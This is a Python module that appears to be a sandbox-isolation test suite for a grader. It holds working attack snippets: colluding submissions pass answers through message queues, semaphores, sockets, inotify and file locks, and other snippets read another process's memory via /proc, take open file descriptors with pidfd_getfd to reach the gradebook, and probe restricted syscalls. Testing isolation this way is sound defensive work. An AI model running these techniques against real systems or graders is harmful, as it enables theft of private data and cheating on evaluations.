"""Stealing from a friend who is graded at the same time: by queues, sockets, locks and files that both can see.

What no wall closes is not attacked here: how busy processor and memory are, what the page cache holds, futexes on
pages of a library that both have mapped, and the counters of /proc. Two who are in league can talk by them, as by post.
"""

from __future__ import annotations

import socket
from pathlib import Path

from attacks.arena import TRACING
from attacks.attack import FIRST, Attack, Bite, Chapter, code

STEALING = Chapter("stealing")


def told_by_a_friend(name: str, listens: str, tells: str, **rest: str) -> Attack:
    """An attack whose friend tells ANSWER for about two seconds, while the attacker listens and prints it."""
    return STEALING.attack(name, {FIRST: listens}, "another student's answer", Bite.LEAK, friend={FIRST: tells}, **rest)


LIBRARY = code(
    """
    import collections, fcntl, glob, os, struct, time
    import torch

    places = sorted(glob.glob(os.path.dirname(torch.__file__) + "/*/*.py"))[:512]
    """
)
"""512 files that every jail shows: the sixteen of each place stand for a hexadecimal digit there."""

CHOSEN = code(
    """
    chosen = [os.open(places[16 * place + int(digit, 16)], os.O_RDONLY) for place, digit in enumerate(ANSWER)]
    """
)


def on_library_files(listens: str, tells: str) -> dict[str, str]:
    """Cells of a channel that needs nothing but files that both may read."""
    return {"listens": f"{LIBRARY}\n{code(listens)}", "tells": f"{LIBRARY}\n{CHOSEN}\n{code(tells)}"}


READ_LOCKS = """
end = time.monotonic() + 2
digits = ""
while len(digits) < 32 and time.monotonic() < end:
    digits = "".join(f"{place % 16:x}" for place, path in enumerate(places) if locked(path))
print(digits)
"""


def on_locks(locked: str, lock: str) -> dict[str, str]:
    """A channel whose friend locks a file for each digit; `locked` tells of a path whether it is."""
    return on_library_files(f"{code(locked)}\n{code(READ_LOCKS)}", f"for each in chosen:\n    {lock}\ntime.sleep(2.5)")


QUEUES = (
    told_by_a_friend(
        "gets a friend's answer by a POSIX message queue",
        listens="""
        import ctypes, os, time
        libc = ctypes.CDLL(None, use_errno=True)
        there = ctypes.create_string_buffer(8192)
        for _ in range(100):
            queue = libc.mq_open(f"/friends-{KEY}".encode(), os.O_RDONLY | os.O_NONBLOCK)
            if queue >= 0 and libc.mq_receive(queue, there, 8192, None) > 0:
                print(there.value)
                break
            time.sleep(0.02)
        """,
        tells="""
        import ctypes, os, time
        libc = ctypes.CDLL(None, use_errno=True)
        queue = libc.mq_open(f"/friends-{KEY}".encode(), os.O_RDWR | os.O_CREAT, 0o666, None)
        print(queue, libc.mq_send(queue, ANSWER.encode(), len(ANSWER), 0))
        time.sleep(2)
        """,
    ),
    told_by_a_friend(
        "gets a friend's answer by System V's messages",
        listens="""
        import ctypes, time
        libc = ctypes.CDLL(None, use_errno=True)
        there = ctypes.create_string_buffer(200)
        for _ in range(100):
            queue = libc.msgget(KEY, 0)
            if queue >= 0 and libc.msgrcv(queue, there, 100, 0, 0o4000) > 0:
                print(there.raw[8:])
                break
            time.sleep(0.02)
        """,
        tells="""
        import ctypes, struct, time
        libc = ctypes.CDLL(None, use_errno=True)
        queue = libc.msgget(KEY, 0o1666)
        print(queue, libc.msgsnd(queue, struct.pack("l", 1) + ANSWER.encode(), len(ANSWER), 0))
        time.sleep(2)
        """,
    ),
    told_by_a_friend(
        "gets a friend's answer by the values of System V's semaphores",
        listens="""
        import ctypes, time
        libc = ctypes.CDLL(None, use_errno=True)
        values = (ctypes.c_ushort * 32)()
        for _ in range(100):
            number = libc.semget(KEY, 32, 0)
            if number >= 0 and libc.semctl(number, 0, 13, values) >= 0 and all(values):
                print(bytes(list(values)))
                break
            time.sleep(0.02)
        """,
        tells="""
        import ctypes, time
        libc = ctypes.CDLL(None, use_errno=True)
        number = libc.semget(KEY, 32, 0o1666)
        print(number, libc.semctl(number, 0, 17, (ctypes.c_ushort * 32)(*ANSWER.encode())))
        time.sleep(2)
        """,
    ),
)

PATHS = 'paths = [f"{folder}/friends-{KEY}" for folder in (DROP, SHM, "/tmp", "/dev/shm", "/run", "/var/tmp", "..")]'

SOCKETS = (
    told_by_a_friend(
        "gets a friend's answer by a socket's file",
        listens=f"""
        import socket, time
        {PATHS}
        end = time.monotonic() + 2
        while time.monotonic() < end:
            for path in paths:
                caller = socket.socket(socket.AF_UNIX)
                try:
                    caller.connect(path)
                    print(caller.recv(100))
                    end = 0
                except OSError:
                    time.sleep(0.01)
        """,
        tells=f"""
        import select, socket
        {PATHS}
        listeners = []
        for path in paths:
            listener = socket.socket(socket.AF_UNIX)
            try:
                listener.bind(path)
                listener.listen()
                listeners.append(listener)
            except OSError as error:
                print(error)
        for listener in select.select(listeners, [], [], 2)[0]:
            listener.accept()[0].sendall(ANSWER.encode())
        """,
    ),
    told_by_a_friend(
        "gets a friend's answer by netlink's sockets for users",
        listens="""
        import socket
        listener = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2)
        listener.bind((KEY, 0))
        listener.settimeout(2)
        print(listener.recv(200))
        """,
        tells="""
        import socket, time
        teller = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2)
        for _ in range(100):
            try:
                teller.sendto(ANSWER.encode(), (KEY, 0))
                break
            except ConnectionRefusedError:
                time.sleep(0.02)
        """,
    ),
)


def opens_odd_sockets(_: Path) -> str:
    """The families of sockets that a process without walls may open besides those of files and the internet."""
    found = []
    for family in (socket.AF_VSOCK, socket.AF_NETLINK, socket.AF_PACKET, socket.AF_ALG):
        for kind in (socket.SOCK_STREAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind).close()
            except OSError:
                continue
            found.append(family.name)
    return f"opened sockets of {', '.join(dict.fromkeys(found))}" if found else ""


FAMILIES = (
    STEALING.hunt(
        "asks for every family of sockets: the machine's host, its cables, its ciphers",
        "a way round the network's walls",
        """
        import errno, socket
        said = set()
        for family in range(2, 48):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
                try:
                    made = socket.socket(family, kind)
                    said.add(f"opened {family}")
                    if family == socket.AF_VSOCK:
                        made.settimeout(0.2)
                        made.connect((2, 1024))
                except OSError as error:
                    said.add(errno.errorcode.get(error.errno, str(error)))
        print("families:", *sorted(said))
        """,
        control=opens_odd_sockets,
        caught="families: EPERM\\n",
    ),
)

FILES = (
    told_by_a_friend(
        "sees by inotify which files of the library a friend opens",
        **on_library_files(
            """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            number = libc.inotify_init1(os.O_NONBLOCK)
            watched = {libc.inotify_add_watch(number, path.encode(), 0x20): at for at, path in enumerate(places)}
            seen = [collections.Counter() for _ in range(32)]
            end = time.monotonic() + 2
            while time.monotonic() < end:
                try:
                    events = os.read(number, 2**16)
                except BlockingIOError:
                    time.sleep(0.02)
                    continue
                for which, *_ in struct.iter_unpack("iIII", events):
                    seen[watched[which] // 16].update([watched[which] % 16])
            print("".join(f"{each.most_common(1)[0][0]:x}" if each else "?" for each in seen))
            """,
            """
            end = time.monotonic() + 2.5
            while time.monotonic() < end:
                for place, digit in enumerate(ANSWER):
                    os.close(os.open(places[16 * place + int(digit, 16)], os.O_RDONLY))
                time.sleep(0.05)
            """,
        ),
    ),
    told_by_a_friend(
        "finds which files of the library a friend has locked by flock",
        **on_locks(
            """
            def locked(path):
                with open(path, "rb") as file:
                    try:
                        fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB)
                    except BlockingIOError:
                        return True
                return False
            """,
            "fcntl.flock(each, fcntl.LOCK_EX)",
        ),
    ),
    told_by_a_friend(
        "finds which files of the library a friend has locked for reading",
        **on_locks(
            """
            def locked(path):
                with open(path, "rb") as file:
                    asked = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0)
                    return struct.unpack("hhqqi4x", fcntl.fcntl(file, fcntl.F_GETLK, asked))[0] == fcntl.F_RDLCK
            """,
            "fcntl.lockf(each, fcntl.LOCK_SH)",
        ),
    ),
)

PROCESSES = (
    told_by_a_friend(
        "reads a friend's memory through proc",
        listens=r"""
        import glob, os, re, time
        end = time.monotonic() + 2
        found = set()
        while not found and time.monotonic() < end:
            for folder in set(glob.glob("/proc/[0-9]*")) - {f"/proc/{os.getpid()}"}:
                try:
                    with open(f"{folder}/maps") as maps, open(f"{folder}/mem", "rb", 0) as memory:
                        for line in maps:
                            start, end_of = (int(each, 16) for each in line.split()[0].split("-"))
                            if " rw-p " in line and "/" not in line and end_of - start < 2**25:
                                memory.seek(start)
                                found |= set(re.findall(rb"FRIENDS = .([0-9a-f]{32})", memory.read(end_of - start)))
                except OSError as error:
                    print(error)
            time.sleep(0.05)
        print(found)
        """,
        tells="""
        import time
        held = [f"FRIENDS = '{ANSWER}'".encode() for _ in range(100)]
        time.sleep(2.5)
        """,
        needs=TRACING,
    ),
    STEALING.hunt(
        "takes the open files of other processes by their numbers",
        "the gradebook",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), 1, *SUPERVISORS} - {0, os.getpid()}:
            try:
                whose = os.pidfd_open(pid)
            except OSError as error:
                print(error)
                continue
            for number in range(64):
                mine = libc.syscall(438, whose, number, 0)
                try:
                    print(os.readlink(f"/proc/self/fd/{mine}"), os.pread(mine, 100000, 0))
                except OSError:
                    pass
            print(os.strerror(ctypes.get_errno()))
        """,
        needs=TRACING,
    ),
    STEALING.hunt(
        "asks the kernel for the doors to other processes and to everybody's files",
        "other processes, queues and files",
        """
        import ctypes, errno, platform

        libc = ctypes.CDLL(None, use_errno=True)
        doors = {
            "ptrace": (101, 117), "process_vm_readv": (310, 270), "kcmp": (312, 272), "pidfd_getfd": (438, 438),
            "add_key": (248, 217), "request_key": (249, 218), "keyctl": (250, 219), "memfd_create": (319, 279),
            "shmget": (29, 194), "msgget": (68, 186), "semget": (64, 190), "fanotify_init": (300, 262),
            "perf_event_open": (298, 241), "bpf": (321, 280), "userfaultfd": (323, 282), "io_uring": (425, 425),
            "name_to_handle_at": (303, 264), "setns": (308, 268), "syslog": (103, 116),
        }
        said = set()
        for name, numbers in doors.items():
            libc.syscall(numbers[platform.machine() == "aarch64"], 0, 0, 0, 0, 0)
            said.add(errno.errorcode.get(ctypes.get_errno(), "nothing"))
        print("doors:", *sorted(said))
        """,
        Bite.NONE,
        caught="doors: EPERM\\n",
        note="the kernel's own defaults decide what the naive grader's submissions get of it",
    ),
    STEALING.hunt(
        "looks into /sys for the machine that it runs on",
        "what tells one machine from another",
        """
        import glob
        print("machine:", len(glob.glob("/sys/*/*")), len(glob.glob("/sys/class/*/*")))
        """,
        control=lambda _: f"{len(list(Path('/sys/class').glob('*/*')))} devices" if Path("/sys/class").is_dir() else "",
        caught="machine: 0 0",
    ),
)

ATTACKS = (*QUEUES, *SOCKETS, *FAMILIES, *FILES, *PROCESSES)
